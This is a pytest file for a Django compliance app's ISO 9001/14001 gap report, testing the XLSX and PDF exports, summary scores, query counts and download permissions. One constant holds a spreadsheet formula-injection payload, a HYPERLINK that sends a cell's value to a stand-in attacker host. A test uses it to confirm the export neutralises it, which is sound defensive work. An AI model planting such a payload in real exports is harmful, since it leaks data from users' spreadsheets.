"""The gap report: the same figures as a spreadsheet and as a PDF for management."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook
from pypdf import PdfReader

from ims.readiness.checks import run_all
from ims.readiness.reports import gap_report_data, gap_report_pdf, gap_report_xlsx
from ims.readiness.services import applicability_set, assessment_save, evidence_link
from ims.standards.loader import DATA_DIR, load
from ims.standards.selectors import clause_get, edition_get

ISO_9001 = "ISO 9001:2015 + Amd 1:2024"
ISO_14001 = "ISO 14001:2026"
HEADER = [
    "Clause",
    "Title",
    "Applicable",
    "Justification",
    "Status",
    "Owner",
    "Due",
    "Evidence",
    "Failing checks",
    "Documented information",
    "Notes",
]
SCOPE_FAILS = "No standard is in scope yet: write the scope statement for ISO 9001 and/or ISO 14001."
DESIGN_JUSTIFICATION = "We build to customer drawings only."
NOTE = "Context analysis in the 2027 strategy paper."
INJECTION = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


@pytest.fixture
def library(db):
    load(DATA_DIR)


def clause(key: str, number: str):
    return clause_get(edition_get(key), number)


@pytest.fixture
def situation(library, manager, org):
    """4.1 implemented with owner, due date and evidence; 8.3.1 excluded; no scope statement (the check fails)."""
    assessment_save(
        by=manager,
        clause=clause("iso9001:2015", "4.1"),
        status="implemented",
        owner=manager,
        due_date=dt.date(2027, 3, 31),
        notes=NOTE,
    )
    evidence_link(by=manager, clause=clause("iso9001:2015", "4.1"), record_type="org.organisation", record_id="1")
    applicability_set(
        by=manager, clause=clause("iso9001:2015", "8.3.1"), applicable=False, justification=DESIGN_JUSTIFICATION
    )
    assessment_save(by=manager, clause=clause("iso9001:2015", "7.2"), status="in_progress", notes=INJECTION)


def rows_of(book, sheet: str) -> dict[str, list]:
    return {row[0]: list(row) for row in book[sheet].iter_rows(min_row=2, values_only=True)}


def workbook(content: bytes):
    return load_workbook(io.BytesIO(content))


def section(summary: list[list], title: str) -> list[list]:
    """The rows of a summary section, under its title and header, up to the next empty row."""
    start = next(i for i, r in enumerate(summary) if r and r[0] == title) + 2
    end = next((i for i, r in enumerate(summary[start:], start) if not any(r)), len(summary))
    return summary[start:end]


def test_the_xlsx_has_a_summary_and_one_row_per_requirement_with_its_findings(situation):
    book = workbook(gap_report_xlsx(gap_report_data()))
    assert book.sheetnames == ["Summary", "ISO 14001 (2026)", "ISO 9001 (2015)"], "editions by standard code"
    sheet = book["ISO 9001 (2015)"]
    assert [c.value for c in sheet[1]] == HEADER
    assert all(c.font.b for c in sheet[1])
    assert sheet.freeze_panes == "B2"
    rows = rows_of(book, "ISO 9001 (2015)")
    assert rows["4.1"] == [
        "4.1",
        "Understanding the organization and its context",
        "Yes",
        None,
        "Implemented",
        "Manager",
        dt.datetime(2027, 3, 31),
        "Test Works (org.organisation:1)",
        None,
        None,
        NOTE,
    ]
    assert rows["8.3.1"] == ["8.3.1", "General", "No", DESIGN_JUSTIFICATION, "—", None, None, None, None, None, None]
    assert rows["4.3"] == [
        "4.3",
        "Determining the scope of the quality management system",
        "Yes",
        None,
        "Not started",
        None,
        None,
        None,
        f"A scope statement exists for each standard in scope: {SCOPE_FAILS}",
        "Maintain (controlled document): Scope of the QMS: products and services covered and justification "
        "for any requirement declared not applicable",
        None,
    ]
    common = rows_of(book, "ISO 14001 (2026)")["4.1"]
    assert common[4:8] == ["Implemented", "Manager", dt.datetime(2027, 3, 31), "Test Works (org.organisation:1)"]


def test_the_xlsx_summary_leads_with_scores_checks_and_the_gaps_that_block_certification(situation):
    report = gap_report_data()
    summary = [list(r) for r in workbook(gap_report_xlsx(report))["Summary"].iter_rows(values_only=True)]
    first = {r[0]: r for r in summary[:4]}
    assert first["Organisation"][1] == "Test Works"
    assert first["Date"][1] == dt.datetime.combine(report.date, dt.time())
    assert "corrective-action register is not in IMS yet" in first["Open actions"][1]
    scores = {e.edition.label: e.score for e in report.editions}
    assert [r[:2] for r in section(summary, "Score per standard")] == [
        [ISO_14001, scores[ISO_14001]],
        [ISO_9001, scores[ISO_9001]],
    ]
    assert scores[ISO_9001] > 0
    groups = section(summary, "Score per clause group (%)")
    assert [g[0] for g in groups] == ["4", "5", "6", "7", "8", "9", "10"]
    assert groups[0][1] == "Context of the organization"
    checks = section(summary, "Automatic evidence checks")
    assert checks[0][:4] == [
        "A scope statement exists for each standard in scope",
        "ISO 9001 4.3, ISO 14001 4.3",
        "fail",
        SCOPE_FAILS,
    ]
    assert [c[2] for c in checks[1:]] == ["no data yet"] * (len(checks) - 1)
    gaps = [
        r
        for r in section(summary, next(r[0] for r in summary if r[0] and r[0].startswith("Top gaps")))
        if r[0] == ISO_9001
    ]
    assert gaps[0][1:5] == [
        "4.3",
        "Determining the scope of the quality management system",
        "Not started",
        SCOPE_FAILS,
    ], "a failing check blocks certification first"
    assert [g[1] for g in gaps] == [
        r.clause.number for r in next(e for e in report.editions if e.edition.label == ISO_9001).top_gaps
    ]
    assert "8.3.1" not in [g[1] for g in gaps], "a requirement declared not applicable is no gap"
    actions = section(summary, "Open actions (gaps with an owner, a due date or notes)")
    assert [a[:6] for a in actions] == [
        [label, "4.1", "Understanding the organization and its context", "Manager", dt.datetime(2027, 3, 31), NOTE]
        for label in (ISO_14001, ISO_9001)
    ] + [[label, "7.2", "Competence", None, None, INJECTION] for label in (ISO_14001, ISO_9001)], "soonest due first"


def test_formula_injection_is_neutralised(situation):
    content = gap_report_xlsx(gap_report_data())
    cell = next(c for c in workbook(content)["ISO 9001 (2015)"]["K"] if c.value and "HYPERLINK" in c.value)
    assert cell.value == INJECTION
    assert cell.data_type == "s"
    assert cell.quotePrefix
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in s or "<f " in s for s in sheets), "no cell is stored as a formula"


def test_a_missing_organisation_is_said_not_invented(library):
    report = gap_report_data()
    assert report.organisation is None
    first = {r[0]: r for r in workbook(gap_report_xlsx(report))["Summary"].iter_rows(values_only=True) if r[0]}
    assert first["Organisation"][1] == "Not recorded yet"


def test_the_queries_do_not_grow_with_the_assessments_and_evidence(situation, manager):
    with CaptureQueriesContext(connection) as before:
        gap_report_data()
    for number in ("5.1.1", "7.1.2", "7.3", "9.1.1", "10.3"):
        target = clause("iso9001:2015", number)
        assessment_save(by=manager, clause=target, status="in_progress", owner=manager, notes="Planned")
        evidence_link(by=manager, clause=target, record_type="org.organisation", record_id="1")
    with CaptureQueriesContext(connection) as after:
        gap_report_data()
    assert len(after.captured_queries) == len(before.captured_queries)
    # The report's own reads stay a handful; each registered check may add a few of its own.
    with CaptureQueriesContext(connection) as checks_only:
        run_all()
    assert len(after.captured_queries) - len(checks_only.captured_queries) < 20


def pdf_text(content: bytes) -> str:
    return " ".join(" ".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages).split())


def test_the_pdf_shows_the_organisation_editions_findings_and_exclusions(situation):
    content = gap_report_pdf(gap_report_data(), base_url="http://testserver/")
    assert content.startswith(b"%PDF")
    reader = PdfReader(io.BytesIO(content))
    assert len(reader.pages) > 2
    assert reader.pages[0].mediabox.width == pytest.approx(595.28, abs=1)
    text = pdf_text(content)
    for expected in ("Test Works", ISO_9001, ISO_14001, "4.1", SCOPE_FAILS, DESIGN_JUSTIFICATION):
        assert expected in text, expected
    assert "corrective-action register is not in IMS yet" in text
    assert "Page 1 of" in text


@pytest.mark.parametrize(
    ("path", "content_type", "extension", "magic"),
    [
        ("/readiness/report.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "xlsx", b"PK"),
        ("/readiness/report.pdf", "application/pdf", "pdf", b"%PDF"),
    ],
)
def test_the_report_downloads(situation, web, auditor, path, content_type, extension, magic):
    response = web(auditor).get(path)
    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    assert re.fullmatch(
        rf'attachment; filename="ims-gap-report-\d{{4}}-\d{{2}}-\d{{2}}\.{extension}"', response["Content-Disposition"]
    )
    assert response.content.startswith(magic)


def test_the_report_needs_a_login(library, client):
    response = client.get("/readiness/report.pdf")
    assert response.status_code == 302
    assert "/accounts/login" in response["Location"]


def test_a_single_site_user_may_not_download_the_whole_system_report(db, web, viewer):
    assert web(viewer).get("/readiness/report.pdf").status_code == 403
    assert web(viewer).get("/readiness/report.xlsx").status_code == 403
